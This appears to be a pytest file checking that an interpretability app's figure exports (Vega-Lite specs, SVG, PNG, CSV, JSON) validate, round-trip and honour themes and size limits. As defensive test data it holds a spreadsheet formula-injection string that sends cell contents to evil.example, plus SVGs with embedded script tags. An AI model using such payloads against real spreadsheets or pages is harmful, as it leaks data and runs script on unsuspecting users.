"""Every figure is a Vega-Lite specification built from a result's numbers: each registry entry
builds a spec the Vega-Lite schema (as Altair ships it) accepts, for analyses of tiny models of
two families and for every kind of experiment chart; its files (SVG, PNG, CSV, JSON) round-trip;
themes, colours, texts and the drawing budget hold what the pages promise."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from altair.utils.schemapi import validate_jsonschema
from altair.vegalite.v6.schema import load_schema

from app.views.figure_kit import colors
from app.views.figure_kit.export import FORMATS, export, png_scale, svg_size
from app.views.figure_kit.figure import Figure, FigureTooLarge
from app.views.figure_kit.text import signed, visible
from app.views.figure_kit.themes import THEMES, config
from app.views.figures.analysis import heatmap_figure
from app.views.figures.experiments import experiment_figure
from app.views.figures.positions import EXPORT_ROW
from app.views.figures.registry import FIGURES, UnknownFigure, figure_entry, names
from model_worker.common.export_text import FORMULA_START
from model_worker.contracts.analysis import AnalysisResult
from model_worker.contracts.experiments import ExperimentResult
from model_worker.experiments.figure_data import bar_chart, heatmap, line_chart, scatter
from model_worker.run.analyze import analyze
from tests.tiny_models import EXAMPLE_PROMPT, tiny_gpt2, tiny_llama

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
SCHEMA = load_schema()
CSS = Path(__file__).resolve().parents[2] / "static" / "css" / "app.css"


@pytest.fixture(scope="module", params=["llama", "gpt2"])
def result(request: pytest.FixtureRequest) -> AnalysisResult:
    loaded = tiny_llama() if request.param == "llama" else tiny_gpt2()
    first = analyze(loaded, EXAMPLE_PROMPT, target="foo", labels=["foo", "bar"])
    # the top head's score decomposed too, for the head panel's two-towers figures
    top = first.top_heads[:1]
    return analyze(loaded, EXAMPLE_PROMPT, target="foo", labels=["foo", "bar"], towers=top)


def build(result: AnalysisResult, name: str) -> Figure:
    """Registered figure `name` of `result` (its top head; itself for a comparison)."""
    entry = FIGURES[name]
    if entry.kind == "analysis":
        figure = entry.build(result)
    elif entry.kind == "head":
        figure = entry.build(result, result.head_details[result.top_heads[0]])
    else:
        figure = entry.build(result, result)
    assert figure is not None, f"{name} was not drawn"
    return figure


def values(spec: dict[str, Any]) -> list[dict[str, Any]]:
    """The rows a specification draws (Altair moves inline data to `datasets`)."""
    if "datasets" in spec:
        return [row for rows in spec["datasets"].values() for row in rows]
    return list(spec["data"]["values"])


DASHBOARD = [n for n in FIGURES if FIGURES[n].kind in ("analysis", "head", "compare")]
EXPERIMENT_DATA = {
    "bars": bar_chart(
        "Accuracy",
        ["true labels", "false labels", "none"],
        {"true labels": [0.9, 0.2, 0.5], "false labels": [0.1, 0.8, 0.5]},
        ylabel="accuracy",
        low={"true labels": [0.8, 0.1, 0.4]},
        high={"true labels": [0.95, 0.3, 0.6]},
        errors={"false labels": [0.05, 0.05, 0.0]},
    ),
    "lines": line_chart("Flow", [0, 1, 2], {"attention": [0.1, -0.2, 0.3]}, xlabel="layer"),
    "scatter": scatter("Attention vs increase", {"true labels": [(0.1, 0.2), (0.5, -0.1)]}),
    "heatmap": heatmap("Mean increase", [[0.1, -0.2], [0.3, 0.0]]),
}


@pytest.mark.parametrize("name", DASHBOARD)
def test_every_dashboard_figure_is_a_valid_vega_lite_spec(
    result: AnalysisResult, name: str
) -> None:
    figure = build(result, name)
    for theme in THEMES:
        spec = figure.spec(theme)
        validate_jsonschema(spec, SCHEMA)
        assert spec["config"] == config(theme) and spec["usermeta"]["figure"] == name
    assert values(figure.spec("light")), "a figure draws the result's rows"
    assert figure.rows and all(isinstance(row, dict) for row in figure.rows)


@pytest.mark.parametrize("kind", list(EXPERIMENT_DATA))
def test_every_kind_of_experiment_chart_is_a_valid_spec(kind: str) -> None:
    figure = experiment_figure("chart", EXPERIMENT_DATA[kind])
    validate_jsonschema(figure.spec("presentation-dark", offscreen=True), SCHEMA)
    assert figure_entry("experiment", f"experiment-{kind}").build is experiment_figure


def test_intervals_come_from_low_high_else_errors() -> None:
    rows = experiment_figure("bars", EXPERIMENT_DATA["bars"]).rows
    by = {(r["series"], r["category"]): r for r in rows}
    assert (by["true labels", "none"]["low"], by["true labels", "none"]["high"]) == (0.4, 0.6)
    low, high = by["false labels", "true labels"]["low"], by["false labels", "true labels"]["high"]
    assert (low, high) == (pytest.approx(0.05), pytest.approx(0.15))


@pytest.mark.parametrize("fmt", FORMATS)
def test_exports_round_trip(result: AnalysisResult, fmt: str) -> None:
    figure = build(result, "attention")
    data = export(figure, fmt, "dark")  # type: ignore[arg-type]
    if fmt == "svg":
        assert isinstance(data, bytes)
        root = ElementTree.fromstring(data)
        assert root.tag == "{http://www.w3.org/2000/svg}svg"
        assert root.find(".//{*}script") is None and b"<foreignObject" not in data
        shown = {t.text for t in root.iter("{http://www.w3.org/2000/svg}text")}
        assert {visible(t.text) for t in result.tokens} <= shown  # every token labelled
    elif fmt == "png":
        assert isinstance(data, bytes) and data[:8] == PNG_MAGIC
    elif fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(str(data))))
        assert [r["token"] for r in rows] == [t.text for t in result.tokens]
        assert [float(r["attention"]) for r in rows] == pytest.approx(
            result.head_details[result.top_heads[0]].attention, rel=1e-6
        )
    else:
        assert json.loads(data) == figure.spec("dark", offscreen=True)


def test_csv_of_every_figure_neutralises_formulas(result: AnalysisResult) -> None:
    tokens = [t.model_copy(update={"text": FORMULA}) for t in result.tokens]
    details = {
        name: d.model_copy(
            update={"positions": [p.model_copy(update={"token": FORMULA}) for p in d.positions]}
        )
        for name, d in result.head_details.items()
    }
    poisoned = result.model_copy(update={"tokens": tokens, "head_details": details})
    for name in ("heatmap", "layers", "flow", "attention", "scores", "increase", "margin"):
        for row in csv.reader(io.StringIO(str(export(build(poisoned, name), "csv")))):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a negative number may start with "-"


def test_unknown_figures_are_named_with_the_known_ones() -> None:
    with pytest.raises(UnknownFigure, match="heatmap, layers, flow"):
        figure_entry("analysis", "attention")
    assert names("head")[:4] == ["attention", "scores", "increase", "margin"]


def test_dark_themes_swap_every_light_colour_but_never_the_data() -> None:
    figure = experiment_figure("bars", EXPERIMENT_DATA["bars"])
    light = json.dumps(figure.spec("light"))
    dark = figure.spec("dark")
    drawn = json.dumps({k: v for k, v in dark.items() if k not in ("data", "datasets")})
    assert colors.TRUE_LABEL in light and colors.TRUE_LABEL not in drawn
    assert colors.DARK_OF[colors.TRUE_LABEL] in drawn
    assert values(dark) == values(figure.spec("light"))


def test_stylesheet_label_colours_are_the_figures() -> None:
    css = CSS.read_text()
    root = re.search(r":root \{([^}]*)\}", css)
    dark = re.search(r':root\[data-theme="dark"\] \{([^}]*)\}', css)
    assert root is not None and dark is not None
    for block, colour_of in ((root[1], lambda c: c), (dark[1], colors.DARK_OF.get)):
        assert f"--true: {colour_of(colors.TRUE_LABEL)};" in block
        assert f"--false: {colour_of(colors.FALSE_LABEL)};" in block


@pytest.mark.parametrize("theme", THEMES)
def test_the_smallest_text_of_a_theme(theme: str) -> None:
    sizes = [
        size
        for part in config(theme).values()  # type: ignore[arg-type]
        if isinstance(part, dict)
        for key, size in part.items()
        if key.endswith("FontSize")
    ]
    assert min(sizes) == (15 if theme.startswith("presentation") else 11)


def test_signed_values_never_read_minus_zero() -> None:
    assert signed(-0.0001) == "+0.000" and signed(-0.0) == "+0.000"
    assert signed(-0.12) == "-0.120" and signed(0.9891) == "+0.989"


def test_tokens_keep_their_characters_and_show_whitespace() -> None:
    assert visible("😀") == "😀" and visible("猫") == "猫"
    assert visible("  foo") == "␣␣foo" and visible("a\nb") == "a⏎b" and visible("") == "∅"


def test_long_prompts_wrap_into_rows_off_screen(result: AnalysisResult) -> None:
    spec = build(result, "attention").spec("light", offscreen=True)
    (per_row,) = [p["value"] for p in spec["params"] if p["name"] == "perRow"]
    assert per_row == len(result.tokens) <= EXPORT_ROW  # a short prompt: one row
    assert spec["usermeta"]["positions"] == len(result.tokens)


def test_a_planted_huge_grid_is_refused_before_it_is_built(result: AnalysisResult) -> None:
    huge = result.model_copy(update={"n_layers": 100_000, "n_heads": 100_000})
    with pytest.raises(FigureTooLarge, match="100000 × 100000"):
        heatmap_figure(huge)


def test_png_scale_stays_within_the_pixel_budget() -> None:
    assert png_scale(800, 400) == 2.0
    assert 0.5 <= png_scale(6000, 4000, budget=40_000_000) < 2.0
    with pytest.raises(FigureTooLarge):
        png_scale(100_000, 100_000)
    assert svg_size('<svg xmlns="x" class="marks" width="701" height="244">') == (701.0, 244.0)


def test_experiment_results_stored_with_svg_figures_still_load_without_them() -> None:
    stored = {
        "name": "layers",
        "model": "smollm2",
        "dataset": "sentiment-number",
        "n": 2,
        "seed": 0,
        "metrics": {},
        "tables": {"layers": [{"layer": 0, "attn_increase": 0.1}]},
        "figures": {"layers": '<svg width="100000" height="100000"><script>x</script></svg>'},
        "report_markdown": "# Layers",
    }
    loaded = ExperimentResult.model_validate(stored)
    assert loaded.figures == {} and loaded.tables == stored["tables"]


def test_an_old_experiment_page_says_why_it_has_no_figures() -> None:
    from app.views.jinja_env import render_text
    from app.views.panels import ExperimentPanel

    old = ExperimentResult.model_validate(
        {
            "name": "layers",
            "model": "smollm2",
            "dataset": "sentiment-number",
            "n": 2,
            "seed": 0,
            "metrics": {},
            "tables": {"layers": [{"layer": 0}]},
            "figures": {"layers": "<svg><script>alert(1)</script></svg>"},
            "report_markdown": "# Layers",
        }
    )
    html = render_text("notebook/experiment.html", {"experiment": ExperimentPanel.of(old)})
    assert "data-no-figures" in html and "<script" not in html
